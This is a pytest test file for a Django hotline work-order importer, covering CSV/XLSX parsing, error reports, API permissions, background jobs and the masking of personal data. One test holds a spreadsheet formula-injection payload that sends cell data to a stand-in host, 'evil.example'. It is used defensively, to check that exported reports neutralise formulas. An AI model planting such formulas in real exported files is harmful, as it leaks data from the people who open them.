"""Importing 12345 hotline work orders: the service, the command and the upload API."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path

import pytest
import time_machine
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.utils import timezone, translation
from openpyxl import Workbook
from rest_framework.test import APIClient

from appeals.hotline import RowError, RowResult, first_phone, hotline_import, parse_received_at
from appeals.hotline_api import MAX_UPLOAD_BYTES
from appeals.models import (
    Category,
    CategoryKind,
    Channel,
    EventType,
    HotlineImportJob,
    Petition,
    Status,
    Tier,
    Urgency,
)
from appeals.services import _base, petition_route
from appeals.services.hotline_jobs import hotline_job_run, hotline_jobs_enqueue_stale
from governance.errors import DomainError
from governance.models import AccessLog
from governance.settings import parse_hotline_columns

SAMPLE = Path(__file__).parent / "data" / "hotline_sample.csv"
URL = "/api/v1/hotline/import/"


def sample_rows() -> list[list[str]]:
    return list(csv.reader(io.StringIO(SAMPLE.read_text(encoding="utf-8-sig"))))


def csv_bytes(rows: list[list], encoding: str = "utf-8-sig") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def outcomes(report) -> list[tuple[int, str, str]]:
    return [(row.row, row.order_no, row.outcome) for row in report.rows]


@pytest.fixture
def taxonomy(tree, department):
    """A sub-class of its own, so the tests do not depend on the seeded taxonomy."""
    parent = Category.objects.create(code="HT1", name="热线测试类", kind=CategoryKind.EVENT)
    return Category.objects.create(
        code="HT101", name="热线测试垃圾", kind=CategoryKind.EVENT, parent=parent, default_department=department
    )


# --- The service -----------------------------------------------------------------------------------


def test_it_imports_a_utf8_csv_with_bom(taxonomy, district_centre):
    report = hotline_import(file=SAMPLE, actor=district_centre)

    assert report.totals() == {"rows": 3, "created": 3, "skipped": 0, "failed": 0}
    assert outcomes(report) == [
        (2, "HL202611200001", "created"),
        (3, "HL202611200002", "created"),
        (4, "HL202611200003", "created"),
    ]
    first = Petition.objects.get(external_ref="HL202611200001")
    assert first.channel == Channel.HOTLINE
    assert first.tracking_no == report.rows[0].tracking_no
    assert first.contact_name == "张先生" and first.contact_phone == "13800138000"
    assert first.category == taxonomy
    assert (first.lon, first.lat) == (120.005, 36.005)
    assert timezone.localtime(first.created_at).replace(tzinfo=None) == datetime(2026, 11, 20, 9, 15)
    event = first.events.get(type=EventType.SUBMITTED)
    assert event.actor == district_centre and event.actor_label == "12345"


def test_it_cleans_defaults_and_maps_urgency(taxonomy, district_centre):
    hotline_import(file=SAMPLE, actor=district_centre)

    second = Petition.objects.get(external_ref="HL202611200002")
    assert second.title == second.description[:30]
    assert second.contact_phone == "13800138001"
    assert second.category == taxonomy  # matched by its unique sub-class name
    assert second.urgency == Urgency.URGENT
    assert timezone.localtime(second.created_at).replace(tzinfo=None) == datetime(2026, 11, 20, 9, 20)
    third = Petition.objects.get(external_ref="HL202611200003")
    assert third.category == taxonomy  # matched by "class/sub-class"
    assert third.urgency == Urgency.EMERGENCY
    assert third.contact_phone == "0532-88886666"


def test_it_imports_a_gbk_csv(taxonomy):
    report = hotline_import(file=csv_bytes(sample_rows(), "gbk"), fmt="csv")

    assert report.created == 3
    assert Petition.objects.get(external_ref="HL202611200001").contact_name == "张先生"


def test_it_imports_an_xlsx_with_excel_dates_and_numbers(taxonomy):
    rows = sample_rows()
    rows[1][1] = datetime(2026, 11, 20, 8, 5)  # a real date cell
    rows[1][3] = 13800138000  # Excel keeps long digit strings as numbers
    rows[1][8], rows[1][9] = 120.005, 36.005
    rows[2][1] = 46346.5  # an unformatted date: the Excel serial of 2026-11-20 12:00
    report = hotline_import(file=xlsx_bytes(rows), fmt="xlsx")

    assert report.totals()["created"] == 3, report.as_dict()
    first = Petition.objects.get(external_ref="HL202611200001")
    assert first.contact_phone == "13800138000"
    assert timezone.localtime(first.created_at).replace(tzinfo=None) == datetime(2026, 11, 20, 8, 5)
    second = Petition.objects.get(external_ref="HL202611200002")
    assert timezone.localtime(second.created_at).replace(tzinfo=None) == datetime(2026, 11, 20, 12, 0)


def test_it_guesses_xlsx_from_the_content_and_finds_a_header_below_a_title_line(taxonomy):
    rows = [["青岛市12345热线工单导出"], [], *sample_rows()]
    report = hotline_import(file=xlsx_bytes(rows))

    assert [row.row for row in report.rows] == [4, 5, 6]
    assert report.created == 3


def test_a_reimport_skips_every_order_and_duplicates_nothing(taxonomy):
    hotline_import(file=SAMPLE)
    report = hotline_import(file=csv_bytes(sample_rows(), "gbk"))

    assert report.totals() == {"rows": 3, "created": 0, "skipped": 3, "failed": 0}
    assert Petition.objects.count() == 3
    assert report.rows[0].tracking_no == Petition.objects.get(external_ref="HL202611200001").tracking_no


def test_a_repeated_order_inside_one_file_is_created_once(taxonomy):
    rows = sample_rows()
    rows.append(list(rows[1]))
    report = hotline_import(file=csv_bytes(rows))

    assert outcomes(report)[-1] == (5, "HL202611200001", "skipped")
    assert Petition.objects.filter(external_ref="HL202611200001").count() == 1


def test_bad_rows_are_reported_with_their_row_numbers_and_the_rest_is_imported(taxonomy):
    rows = sample_rows()
    header, good = rows[0], rows[1]
    no_description = ["HL-BAD-1", "2026-11-20 11:00", "赵", "13800138002", "标题", "", "", "HT101", "", "", "一般"]
    unknown_category = [*good]
    unknown_category[0], unknown_category[7] = "HL-BAD-2", "违章搭建"
    bad_phone = [*good]
    bad_phone[0], bad_phone[3] = "HL-BAD-3", "12345"
    bad_time = [*good]
    bad_time[0], bad_time[1], bad_time[10] = "HL-BAD-4", "昨天上午", "很急"
    no_order = [*good]
    no_order[0] = ""
    file = csv_bytes([header, good, no_description, unknown_category, bad_phone, bad_time, no_order, rows[3]])

    with translation.override("en"):
        report = hotline_import(file=file)

    assert outcomes(report) == [
        (2, "HL202611200001", "created"),
        (3, "HL-BAD-1", "error"),
        (4, "HL-BAD-2", "error"),
        (5, "HL-BAD-3", "error"),
        (6, "HL-BAD-4", "error"),
        (7, "", "error"),
        (8, "HL202611200003", "created"),
    ]
    messages = {row.order_no: " ".join(row.messages) for row in report.errors}
    assert "诉求内容 is empty" in messages["HL-BAD-1"]  # the column as the file names it
    assert "违章搭建" in messages["HL-BAD-2"]
    assert "phone" in messages["HL-BAD-3"]
    assert "昨天上午" in messages["HL-BAD-4"] and "很急" in messages["HL-BAD-4"]
    assert "工单编号 is empty" in messages[""]
    assert set(Petition.objects.values_list("external_ref", flat=True)) == {"HL202611200001", "HL202611200003"}


def test_a_bad_received_time_is_named_by_the_files_own_column(taxonomy, settings):
    rows = sample_rows()
    rows[1][1] = "昨天上午"
    with translation.override("zh-hans"):
        report = hotline_import(file=csv_bytes(rows))
    assert "来电时间“昨天上午”" in report.errors[0].messages[0]
    assert "受理时间" not in report.errors[0].messages[0]

    settings.HOTLINE_COLUMNS = {("受理时间" if field == "received_at" else header): field
                                for header, field in settings.HOTLINE_COLUMNS.items()}  # fmt: skip
    rows[0][1] = "受理时间"
    rows[1][0] = "HL-OTHER-1"
    with translation.override("zh-hans"):
        report = hotline_import(file=csv_bytes(rows))
    assert "受理时间“昨天上午”" in report.errors[0].messages[0]


def test_a_missing_required_column_is_named_and_nothing_is_written(taxonomy):
    rows = [[cell for index, cell in enumerate(row) if index != 5] for row in sample_rows()]  # no 诉求内容

    with pytest.raises(DomainError) as caught:
        hotline_import(file=csv_bytes(rows))

    assert caught.value.code == "missing_columns"
    assert caught.value.extra["missing"] == ["诉求内容"]
    assert "诉求内容" in caught.value.message
    assert not Petition.objects.exists()


def test_an_unreadable_file_is_refused(taxonomy):
    with pytest.raises(DomainError) as caught:
        hotline_import(file=b"PK\x03\x04 not really a zip", fmt="xlsx")
    assert caught.value.code == "unreadable_file"
    with pytest.raises(DomainError) as caught:
        hotline_import(file=xlsx_bytes(sample_rows()), fmt="csv")
    assert caught.value.code == "unreadable_file"
    assert not Petition.objects.exists()


def test_it_follows_a_custom_column_mapping(taxonomy):
    columns = {"单号": "order_no", "内容": "description", "电话": "contact_phone", "类别": "category"}
    rows = [["单号", "内容", "电话", "类别"], ["X-1", "路灯不亮，晚上很黑。", "13800138009", "HT101"]]

    with override_settings(HOTLINE_COLUMNS=columns):
        report = hotline_import(file=csv_bytes(rows))
        with pytest.raises(DomainError) as caught:
            hotline_import(file=SAMPLE)

    assert report.created == 1
    assert Petition.objects.get(external_ref="X-1").title == "路灯不亮，晚上很黑。"
    assert set(caught.value.extra["missing"]) == {"单号", "内容", "电话"}


def test_an_ambiguous_sub_class_name_is_a_row_error(taxonomy):
    other = Category.objects.create(code="HT2", name="热线测试另一类", kind=CategoryKind.EVENT)
    Category.objects.create(code="HT201", name="热线测试垃圾", kind=CategoryKind.EVENT, parent=other)

    report = hotline_import(file=SAMPLE)

    assert [row.outcome for row in report.rows] == ["created", "error", "created"]
    assert "热线测试垃圾" in report.rows[1].messages[0]


def test_it_imports_rows_given_as_dicts(taxonomy):
    header, *data = sample_rows()
    report = hotline_import(rows=[dict(zip(header, row, strict=True)) for row in data])

    assert report.created == 3 and [row.row for row in report.rows] == [2, 3, 4]


def test_imported_orders_with_a_point_are_routed_to_its_grid(taxonomy, tree):
    hotline_import(file=SAMPLE)
    petition = Petition.objects.get(external_ref="HL202611200001")
    assert petition.status == Status.SUBMITTED

    petition_route(petition_id=petition.pk)

    petition.refresh_from_db()
    assert petition.status == Status.ASSIGNED
    assert petition.tier == Tier.GRID
    assert petition.handler_area == tree["DS0C0G0"]


def test_it_queues_routing_after_commit(taxonomy, django_capture_on_commit_callbacks, monkeypatch):
    routed = []
    monkeypatch.setattr(
        "appeals.services._base._publish",
        lambda name, args: routed.extend(args) if name == "appeals.route_petition" else None,
    )
    with django_capture_on_commit_callbacks(execute=True):
        hotline_import(file=SAMPLE)
    assert sorted(routed) == sorted(Petition.objects.values_list("pk", flat=True))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("138 0013 8000", "13800138000"),
        ("+86 138-0013-8000", "13800138000"),
        ("13800138000/13900139000", "13800138000"),
        (13800138000.0, "13800138000"),
        ("0532-88886666", "0532-88886666"),
        ("053288886666；13800138000", "0532-88886666"),
    ],
)
def test_it_cleans_phone_numbers(value, expected):
    assert first_phone(value) == expected


@pytest.mark.parametrize(
    "value", ["2026-11-20 09:15:00", "2026/11/20 9:15", "2026-11-20T09:15", "2026年11月20日 09:15", "20261120091500"]
)
def test_it_parses_common_received_time_formats(value):
    assert timezone.localtime(parse_received_at(value)).replace(tzinfo=None) == datetime(2026, 11, 20, 9, 15)


@pytest.mark.parametrize("value", ["0001-12-31 09:00", "1999-12-31 23:59", 1.0, "2999-01-01"])
def test_it_refuses_received_times_outside_the_accepted_window(value):
    with pytest.raises(RowError):
        parse_received_at(value)


def test_a_row_with_control_characters_is_refused_and_the_others_are_imported(taxonomy):
    rows = sample_rows()
    rows[1][4] = "标题\x01"
    rows[2][6] = "地址\x07"

    report = hotline_import(file=csv_bytes(rows))

    assert [row.outcome for row in report.rows] == ["error", "error", "created"]
    assert "诉求标题" in report.rows[0].messages[0] and "问题地址" in report.rows[1].messages[0]
    assert Petition.objects.count() == 1


# --- Settings ----------------------------------------------------------------------------------------


def test_the_column_setting_fails_loudly_on_bad_values():
    assert parse_hotline_columns('{"单号": "order_no"}') == {"单号": "order_no"}
    with pytest.raises(ImproperlyConfigured, match="HOTLINE_COLUMNS is not valid JSON"):
        parse_hotline_columns("{单号: order_no}")
    with pytest.raises(ImproperlyConfigured, match="HOTLINE_COLUMNS maps to unknown field.*phone"):
        parse_hotline_columns('{"电话": "phone"}')
    with pytest.raises(ImproperlyConfigured, match="HOTLINE_COLUMNS must be a JSON object"):
        parse_hotline_columns('["order_no"]')
    with pytest.raises(ImproperlyConfigured, match="several columns to description"):
        parse_hotline_columns('{"a": "description", "b": "description"}')


# --- The command -------------------------------------------------------------------------------------


def test_the_command_imports_and_writes_the_report(taxonomy, district_centre, tmp_path):
    rows = sample_rows()
    rows[2][5] = ""  # row 3: no description
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes(rows, "gbk"))
    report_path = tmp_path / "report.csv"
    out, err = io.StringIO(), io.StringIO()

    call_command("import_hotline", str(source), user="district", report=str(report_path), stdout=out, stderr=err)

    assert "共 3 行：新建 2 条，跳过 0 条（已导入），失败 1 条。" in out.getvalue()
    assert "第 3 行（HL202611200002）：诉求内容为空。" in err.getvalue()
    written = list(csv.DictReader(io.StringIO(report_path.read_text(encoding="utf-8-sig"))))
    assert [(line["row"], line["outcome"]) for line in written] == [("2", "created"), ("3", "error"), ("4", "created")]
    assert written[0]["tracking_no"] == Petition.objects.get(external_ref="HL202611200001").tracking_no
    assert written[1]["messages"]


def test_the_command_report_never_carries_a_formula(taxonomy, tmp_path):
    rows = sample_rows()
    rows[1][0] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    rows[1][5] = ""  # an error row, so its order number is echoed in the report
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes(rows))
    report_path = tmp_path / "report.csv"

    call_command("import_hotline", str(source), report=str(report_path), stdout=io.StringIO(), stderr=io.StringIO())

    written = list(csv.DictReader(io.StringIO(report_path.read_text(encoding="utf-8-sig"))))
    assert written[0]["order_no"] == "'" + rows[1][0]


def test_the_command_stores_nothing_with_all_or_nothing_when_a_row_fails(taxonomy, tmp_path):
    rows = sample_rows()
    rows[2][5] = ""
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes(rows))

    with pytest.raises(CommandError, match="整个文件均未导入"):
        call_command("import_hotline", str(source), all_or_nothing=True, stdout=io.StringIO(), stderr=io.StringIO())
    assert not Petition.objects.exists()


def test_the_command_is_strict_only_when_asked(taxonomy, tmp_path):
    rows = sample_rows()
    rows[2][5] = ""
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes(rows))

    call_command("import_hotline", str(source), stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(CommandError, match="1 行"):
        call_command("import_hotline", str(source), "--strict", stdout=io.StringIO(), stderr=io.StringIO())


def test_the_command_fails_on_a_file_level_error(taxonomy, tmp_path):
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes([["工单编号", "诉求内容"], ["A1", "内容"]]))

    with pytest.raises(CommandError, match="联系电话"):
        call_command("import_hotline", str(source), stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(CommandError, match="nobody"):
        call_command("import_hotline", str(source), user="nobody", stdout=io.StringIO())
    assert not Petition.objects.exists()


# --- The API: a background job -----------------------------------------------------------------------


def post(client: APIClient, content: bytes, name: str = "orders.csv", **data):
    return client.post(URL, {"file": SimpleUploadedFile(name, content), **data}, format="multipart")


def run_job(client: APIClient, response) -> dict:
    """Run the queued job as the worker would, then read it through the API."""
    assert response.status_code == 202, response.json()
    hotline_job_run(job_id=response.json()["id"])
    job = client.get(response["Location"])
    assert job.status_code == 200, job.json()
    return job.json()


@pytest.fixture
def api():
    return APIClient()


@pytest.mark.parametrize("persona", ["district_centre", "street_command", "administrator"])
def test_the_api_queues_a_job_and_the_job_imports_for_command_staff(taxonomy, api, persona, request):
    api.force_authenticate(request.getfixturevalue(persona))

    response = post(api, SAMPLE.read_bytes())

    assert response.status_code == 202
    assert response.json()["status"] == "queued"
    assert response["Location"] == response.json()["url"]
    assert not Petition.objects.exists()  # nothing is imported inside the request
    job = run_job(api, response)
    assert job["status"] == "done" and job["error"] is None
    assert job["report"]["totals"] == {"rows": 3, "created": 3, "skipped": 0, "failed": 0}
    assert job["report"]["committed"] is True
    assert job["report"]["rows"][0]["tracking_no"]
    assert job["progress"]["rows_done"] == 3
    assert Petition.objects.count() == 3


def test_the_upload_enqueues_the_import_task_after_commit(
    taxonomy, api, district_centre, monkeypatch, django_capture_on_commit_callbacks
):
    sent = []
    monkeypatch.setattr(
        _base, "_publish", lambda name, args: sent.extend(args) if name == "appeals.hotline_import_run" else None
    )
    api.force_authenticate(district_centre)

    with django_capture_on_commit_callbacks(execute=True):
        response = post(api, SAMPLE.read_bytes())

    assert sent == [response.json()["id"]]


def test_a_reposted_file_is_all_skipped(taxonomy, api, district_centre):
    api.force_authenticate(district_centre)
    run_job(api, post(api, SAMPLE.read_bytes()))

    job = run_job(api, post(api, xlsx_bytes(sample_rows()), name="orders.xlsx"))

    assert job["status"] == "done"
    assert job["report"]["totals"] == {"rows": 3, "created": 0, "skipped": 3, "failed": 0}
    assert Petition.objects.count() == 3


def test_a_file_with_one_bad_row_commits_nothing(taxonomy, api, district_centre):
    rows = sample_rows()
    rows.append(["HX-BAD", "0001-12-31 09:00", "", "13800138000", "", "公元一年的工单", "", "", "", "", ""])
    api.force_authenticate(district_centre)

    job = run_job(api, post(api, csv_bytes(rows)))

    assert job["status"] == "failed" and job["error"]["code"] == "rows_failed"
    assert job["report"]["committed"] is False
    bad = [row for row in job["report"]["rows"] if row["outcome"] == "error"]
    assert [row["order_no"] for row in bad] == ["HX-BAD"]
    assert "2000-01-01" in bad[0]["messages"][0]
    assert {row["outcome"] for row in job["report"]["rows"]} == {"error", "not_stored"}
    assert not Petition.objects.exists()


def test_a_nul_byte_after_4_kb_commits_nothing(taxonomy, api, district_centre):
    rows = [sample_rows()[0]]
    for number in range(60):
        rows.append(
            [f"HN{number:04d}", "2026-11-23 09:15", "张三", "13800138000", "", "路灯不亮" * 5, "", "", "", "", ""]
        )
    rows.append(["HN-NUL", "2026-11-23 09:15", "张三", "13800138000", "", "坏\x00字节", "", "", "", "", ""])
    content = csv_bytes(rows)
    assert content.index(b"\x00") > 4096
    api.force_authenticate(district_centre)

    job = run_job(api, post(api, content))

    assert job["status"] == "failed"
    bad = [row for row in job["report"]["rows"] if row["outcome"] == "error"]
    assert [row["order_no"] for row in bad] == ["HN-NUL"]
    assert "诉求内容" in bad[0]["messages"][0]
    assert not Petition.objects.exists()


def test_an_unexpected_error_in_the_middle_rolls_the_whole_file_back(taxonomy, api, district_centre, monkeypatch):
    from appeals import hotline

    real_submit = hotline.petition_submit
    calls = []

    def failing_submit(**kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise RuntimeError("worker lost its database")
        return real_submit(**kwargs)

    monkeypatch.setattr(hotline, "petition_submit", failing_submit)
    api.force_authenticate(district_centre)

    job = run_job(api, post(api, SAMPLE.read_bytes()))

    assert job["status"] == "failed" and job["error"]["code"] == "import_failed"
    assert not Petition.objects.exists()


def test_a_job_runs_once(taxonomy, api, district_centre):
    api.force_authenticate(district_centre)
    response = post(api, SAMPLE.read_bytes())
    run_job(api, response)

    assert hotline_job_run(job_id=response.json()["id"]) is None
    assert Petition.objects.count() == 3


def test_the_sweeper_sends_again_a_job_the_broker_dropped(
    taxonomy, api, district_centre, monkeypatch, django_capture_on_commit_callbacks
):
    sent = []
    monkeypatch.setattr(
        _base, "_publish", lambda name, args: sent.extend(args) if name == "appeals.hotline_import_run" else None
    )
    # A job whose nudge the broker dropped.
    job = HotlineImportJob.objects.create(
        file_name="orders.csv", content=SAMPLE.read_bytes(), created_by=district_centre
    )

    assert hotline_jobs_enqueue_stale() == 0  # within the grace period
    with time_machine.travel(timezone.now() + timedelta(minutes=2)), django_capture_on_commit_callbacks(execute=True):
        assert hotline_jobs_enqueue_stale() == 1
    assert sent == [job.pk]


@pytest.mark.parametrize("persona", ["grid_worker_a", "community_secretary", "department_handler", "resident"])
def test_the_api_refuses_other_users(taxonomy, api, persona, request):
    api.force_authenticate(request.getfixturevalue(persona))

    response = post(api, SAMPLE.read_bytes())

    assert response.status_code == 403
    assert response.json()["code"] == "forbidden" and set(response.json()) == {"message", "code", "extra"}
    assert not HotlineImportJob.objects.exists()


def test_a_job_is_seen_by_its_importer_and_the_district_only(
    taxonomy, api, street_command, other_street_command, district_centre
):
    api.force_authenticate(street_command)
    url = post(api, SAMPLE.read_bytes())["Location"]

    api.force_authenticate(other_street_command)
    assert api.get(url).status_code == 404
    api.force_authenticate(district_centre)
    assert api.get(url).status_code == 200


def test_the_api_refuses_anonymous_callers(taxonomy, api):
    response = post(api, SAMPLE.read_bytes())

    assert response.status_code in (401, 403)
    assert set(response.json()) == {"message", "code", "extra"}
    assert not HotlineImportJob.objects.exists()


def test_file_level_errors_fail_the_job_or_the_upload(taxonomy, api, district_centre):
    api.force_authenticate(district_centre)

    missing = run_job(api, post(api, csv_bytes([["工单编号", "联系电话"], ["A1", "13800138000"]])))
    no_file = api.post(URL, {}, format="multipart")
    bad_format = post(api, SAMPLE.read_bytes(), format="pdf")

    assert missing["status"] == "failed" and missing["error"]["code"] == "missing_columns"
    assert missing["report"]["extra"]["missing"] == ["诉求内容"]
    assert no_file.status_code == 400 and no_file.json()["code"] == "file_required"
    assert bad_format.status_code == 400 and bad_format.json()["code"] == "bad_format"
    assert not Petition.objects.exists()


def test_the_api_refuses_files_over_the_size_limit(taxonomy, api, district_centre):
    api.force_authenticate(district_centre)

    response = post(api, b"x" * (MAX_UPLOAD_BYTES + 1))

    assert response.status_code == 400
    assert response.json()["code"] == "file_too_large" and "MB" in response.json()["message"]


def test_the_report_masks_personal_data_quoted_in_messages_and_logs_the_export(taxonomy, district_centre, tmp_path):
    rows = sample_rows()
    rows[2][1] = "13912342468"  # row 3: a phone number pasted into the time column
    source = tmp_path / "orders.csv"
    source.write_bytes(csv_bytes(rows))
    report_path = tmp_path / "report.csv"
    err = io.StringIO()

    call_command(
        "import_hotline", str(source), user="district", report=str(report_path), stdout=io.StringIO(), stderr=err
    )

    written = report_path.read_text(encoding="utf-8-sig")
    assert "139******68" in written and "13912342468" not in written and "13912342468" not in err.getvalue()
    created = set(Petition.objects.values_list("tracking_no", flat=True))
    logged = AccessLog.objects.filter(reason="export")
    assert {entry.record for entry in logged} == created and len(created) == 2
    assert {(entry.user, entry.fields) for entry in logged} == {(district_centre, "tracking_no,external_ref")}


def test_the_api_report_masks_messages_too():
    row = RowResult(3, "HL1", "error", messages=["来电时间 13912342468 不是日期"])
    assert row.as_dict()["messages"] == ["来电时间 139******68 不是日期"]
